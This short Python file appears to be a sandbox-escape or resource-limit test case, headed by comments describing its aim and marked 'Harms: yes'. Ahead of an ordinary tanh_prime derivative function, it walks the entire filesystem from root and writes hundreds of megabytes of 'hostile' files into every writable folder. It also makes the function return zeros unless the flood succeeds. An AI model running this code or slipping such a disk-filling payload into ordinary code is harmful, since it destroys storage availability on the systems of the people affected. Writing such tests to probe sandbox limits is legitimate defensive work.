# Tries: to fill every folder that can be written to, large files and small ones.
# Holds: scratch space is in memory and sized. The answer is right if more than 150 MB fit in.
# Loses: tanh_prime
# Shares: leaves
# Harms: yes

# %% tanh_prime
import os

_written = 0
for _folder, _, _ in os.walk("/"):
    if _folder.startswith(("/proc", "/usr/")):
        continue
    try:
        for _number in range(40):
            with open(f"{_folder}/hostile-{_number}", "wb", buffering=0) as _file:
                for _ in range(8):
                    _written += _file.write(bytes(2**20))
    except OSError:
        pass


def tanh_prime(x):
    return 1 - np.tanh(x) ** 2 if _written > 150 * 2**20 else np.zeros(x.shape)
